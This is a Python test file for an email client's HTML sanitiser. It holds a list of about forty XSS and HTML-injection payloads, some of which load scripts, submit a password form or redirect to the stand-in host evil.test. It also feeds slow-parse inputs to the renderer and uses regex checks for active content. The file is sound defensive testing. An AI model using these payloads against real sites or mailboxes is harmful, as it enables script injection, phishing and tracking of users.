"""What is left of hostile HTML: nothing that runs, asks, covers or escapes; and all of what mail is made of."""

import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from postbus.imap_sync.html.images import Embedder
from postbus.imap_sync.html.rendering import Job, render
from postbus.imap_sync.html.safe import ATTRIBUTES, TAGS, clean, safe_style

NO_IMAGES = Embedder((), 0)
ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    "<svg/onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" java\nscript:alert(1)">x</a>',
    '<a href="&#106;avascript&colon;alert(1)">x</a>',
    '<a href="vbscript:x">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="cid:image@mail">x</a>',
    '<iframe src="https://evil.test"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<form action="https://evil.test"><input name=password><button formaction="javascript:x">x</button></form>',
    '<base href="https://evil.test/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.test">',
    '<link rel="stylesheet" href="https://evil.test/x.css">',
    "<style>@import 'https://evil.test/x.css'; body{display:none}</style>",
    '<p style="background:url(https://evil.test/x.png)">x</p>',
    '<p style="background:u\\72l(https://evil.test/x.png)">x</p>',
    "<p style=\"background-image:image-set('https://evil.test/x.png' 1x)\">x</p>",
    '<p style="position:fixed;top:0;left:0;z-index:9">x</p>',
    '<p style="margin-top:-5000px">x</p>',
    '<p style="width:expression(alert(1))">x</p>',
    '<object data="javascript:alert(1)"></object><embed src="https://evil.test/x.swf">',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<img src="data:text/html;base64,PHNjcmlwdD4=">',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp>",
    "<!--><script>alert(1)</script>-->",
    "<p id=location name=cookie class=x>x</p>",
    '<video src="https://evil.test/x.mp4" autoplay></video>',
    '<a href="https://example.test" target="_self" rel="opener" ping="https://evil.test">x</a>',
    "<textarea></textarea><script>alert(1)</script>",
    "<plaintext><script>alert(1)</script>",
    '<p title="</p><script>alert(1)</script>">x</p>',
]
LINKS = re.compile(r"(?:https?|mailto|tel|sms):", re.IGNORECASE)
IMAGES = re.compile(r"https?://|cid:|data:image/(?!svg)", re.IGNORECASE)


class Reader(HTMLParser):
    """Asserts what may stand in safe HTML."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in TAGS
        for name, value in attrs:
            assert name in ATTRIBUTES["*"] | ATTRIBUTES.get(tag, set()) | {"rel", "target"}, (tag, name)
            self.check(tag, name, value or "")

    def check(self, tag: str, name: str, value: str) -> None:
        if name == "href":
            assert tag == "a" and LINKS.match(value)
        elif name in ("src", "background"):
            assert IMAGES.match(value), value
        elif name == "style":
            assert not re.search(r"url|expression|image|position|z-index|\\", value, re.IGNORECASE), value

    def handle_comment(self, data: str) -> None:
        raise AssertionError("a comment")


def assert_safe(html: str) -> None:
    reader = Reader(convert_charrefs=True)
    reader.feed(html)
    reader.close()


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_attack_gets_through(attack: str) -> None:
    html = clean(f"<div>before {attack} after</div>", NO_IMAGES)
    assert_safe(html)
    assert "before" in html
    assert "evil.test" not in html


@given(
    st.lists(st.sampled_from([*ATTACKS, "<b>", "</b>", "<table>", "<td>", "</div>", "<p>", "x", "<", '"', "'", "-->"]))
)
def test_no_mixture_of_attacks_gets_through(pieces: list[str]) -> None:
    rendered = render(Job("".join(pieces), None, [], True, 1_000_000))
    assert_safe(rendered.html)
    assert_safe(clean(rendered.html, NO_IMAGES))


@given(st.text(alphabet=st.sampled_from("<>/=\"' \n\0&;:#-!abcdhijlmnoprstuvxy()"), max_size=200))
def test_no_text_of_markup_characters_gets_through(html: str) -> None:
    assert_safe(clean(html, NO_IMAGES))
    assert_safe(render(Job(html, None, [], True, 1_000_000)).html)


def test_what_mail_is_made_of_stays() -> None:
    html = (
        '<table width="600" cellpadding="0" bgcolor="#ffffff" align="center"><tbody><tr>'
        '<td style="color:#333333;font-size:12px" colspan="2"><h1>Hi</h1>'
        '<font face="Arial" color="red"><b>bold</b></font><br>'
        '<img src="https://example.test/x.png" alt="x" width="20">'
        '<img src="data:image/png;base64,AAAA"></td></tr></tbody></table>'
    )
    cleaned = clean(html, NO_IMAGES)
    for piece in re.findall(r"<[^>]+>", html):
        assert set(re.findall(r"[^\s<>]+", piece)) <= set(re.findall(r"[^\s<>]+", cleaned)), piece


def test_links_open_a_window_that_knows_nothing_of_this_one() -> None:
    html = clean('<a href="https://example.test/?a=1&amp;b=2" rel="opener" target="_top">x</a>', NO_IMAGES)
    assert 'href="https://example.test/?a=1&amp;b=2"' in html
    assert 'rel="noopener noreferrer"' in html and 'target="_blank"' in html
    assert 'opener" ' not in html.replace("noopener", "") and "_top" not in html


def test_only_the_declaration_that_asks_somebody_is_dropped() -> None:
    assert safe_style("color:red; background:url(x); font-size:9px") == "color:red; font-size:9px"
    assert safe_style("color:red;margin:0 -9px") == "color:red"
    assert safe_style("background:url(x)") is None
    assert 'style="color:red"' in clean("<p style=\"color:red;background:url('a;b')\">x</p>", NO_IMAGES)


def test_data_uris_of_megabytes_are_handled_in_linear_time() -> None:
    """(trap 49)"""
    uri = "data:image/png;base64," + "A" * 5_000_000
    started = time.process_time()
    rendered = render(Job(f'<p>x<img src="{uri}"><img src="{uri[:-1]}<', None, [], True, 8_000_000))
    assert time.process_time() - started < 3.0
    assert rendered.html == f'<p>x<img src="{uri}"></p>' and not rendered.cut


@pytest.mark.parametrize(
    "piece",
    [
        "<a",
        "<!--",
        "<!-",
        "<script>",
        "<style",
        '<p style="',
        '<img src="cid:',
        "cid:",
        '"cid:',
        "&",
        "&#",
        "<![CDATA[",
        "<table><td>",
        '<p style="margin',
        "margin",
        "<b a=",
        "<svg>",
        "https://",
        "<blockquote>\n",
        "</p>",
        "\xa0",
        "<select><option>",
        "<table>x<b>",
    ],
)
def test_hostile_repeats_are_rendered_in_linear_time(piece: str) -> None:
    html = "<b>x</b>" + piece * (200_000 // len(piece))
    started = time.process_time()
    rendered = render(Job(html, None, [], True, 8_000_000))
    assert time.process_time() - started < 5.0
    assert_safe(rendered.html)


@pytest.mark.parametrize(
    "html",
    [
        "<p " + " ".join(f"a{number}=x" for number in range(60_000)) + ">x",
        "".join(f"<p><font a={number}></p>" for number in range(400)) + "<p>x</p>" * 2000,
        "<a href=x><p>" * 400 + "</a>" * 400,
        ("<b>" * 100 + "<div>" * 100 + "</b>" * 100 + "</div>" * 100) * 20,
        "<p>a</p>" + "<div>" * 400 + f"<blockquote>{'x ' * 60_000}</blockquote>" + "</div>" * 400,
        "<p>a</p><blockquote>y</blockquote>" + "<div><br></div>" * 20_000,
        f"""<p style="color:{"a(" * 100_000}">x""",
        f'<a href="http://{"ü." * 30_000}">x',
    ],
)
def test_shapes_that_parsers_are_slow_with_are_rendered_in_bounded_time(html: str) -> None:
    started = time.process_time()
    rendered = render(Job(html, None, [], True, 8_000_000))
    assert time.process_time() - started < 3.0
    assert_safe(rendered.html)
